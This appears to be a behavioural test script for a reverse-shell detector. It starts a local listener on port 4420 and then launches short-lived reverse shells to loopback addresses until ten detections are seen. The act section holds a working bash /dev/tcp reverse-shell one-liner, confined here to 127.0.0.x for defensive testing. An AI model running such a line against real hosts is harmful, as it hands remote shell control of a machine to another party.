# R20: ten shells, each for a tenth of a second
# stage: behaviour
# expect: reverse_shell_detected at least 10 distinct reverse_shell.process_list.0.process_id
#   detection.reason: ~outbound
#
# A slow watcher misses some of such shells: there are more until it has found ten. Each has a peer
# of its own, since alerts with one cause are summed up.

#: prepare
. lib/peers.sh
python3 -c '
import socket, time
server = socket.create_server(("", 4420))
while True:
    connection, _ = server.accept()
    connection.sendall(b"sleep 0.1; exit\n")' > /dev/null 2>&1 &
kept $!
await 'grep -q :1144.*:0000.0A /proc/net/tcp'
#: act
. lib/peers.sh
act
for ((peer = 2; peer < 250; peer++)); do
  ! come && ((SECONDS < 60)) || break
  bash -c "sh >& /dev/tcp/127.0.0.$peer/4420 0>&1" < /dev/null > /dev/null 2>&1
done
